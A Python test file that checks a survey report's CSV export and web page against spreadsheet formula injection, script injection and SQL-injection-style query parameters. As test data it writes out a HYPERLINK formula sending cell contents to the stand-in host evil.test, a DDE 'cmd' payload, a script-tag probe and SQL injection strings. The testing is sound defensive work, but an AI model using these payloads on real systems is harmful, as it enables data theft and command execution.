"""The survey report's CSV cannot run a formula in a spreadsheet, and its page escapes what customers and agents
named (segments, agent names); the slice's parameters are refused, not interpolated."""

from __future__ import annotations

import csv
import io

from rapport.models import Agent
from rapport.surveys.report_csv import safe
from tests.conftest import sign_in_as
from tests.surveys.report_data import Sent, lay_down

HOSTILE_SEGMENT = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def test_text_cells_that_start_like_a_formula_are_defused():
    for cell in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe(cell) == "'" + cell
    assert safe("Enterprise") == "Enterprise" and safe(-12.5) == -12.5  # numbers we computed stay numbers


def test_the_export_and_the_page_defuse_hostile_names(client, db, world, frozen_clock, settings):
    settings.survey_report_min_answers = 1
    with db.write() as s:
        s.get(Agent, world.agent.id).name = "@SUM(1+1)*cmd|' /C calc'!A0"
    lay_down(
        db, world,
        [Sent(csat=5, segment=HOSTILE_SEGMENT, assignee_id=world.agent.id),
         Sent(csat=2, segment="<script>alert(1)</script>", assignee_id=world.agent.id)],
    )  # fmt: skip
    sign_in_as(client, "ada@example.com", "correct horse battery")
    r = client.get("/reports/surveys/export.csv")
    assert r.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert "'" + HOSTILE_SEGMENT in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]
    page = client.get("/reports/surveys")
    assert "<script>alert(1)</script>" not in page.text and "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert client.get("/reports/surveys?agent=1%20OR%201=1").status_code == 422
    assert client.get("/reports/surveys?from=2026-01-01'--").status_code == 422


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
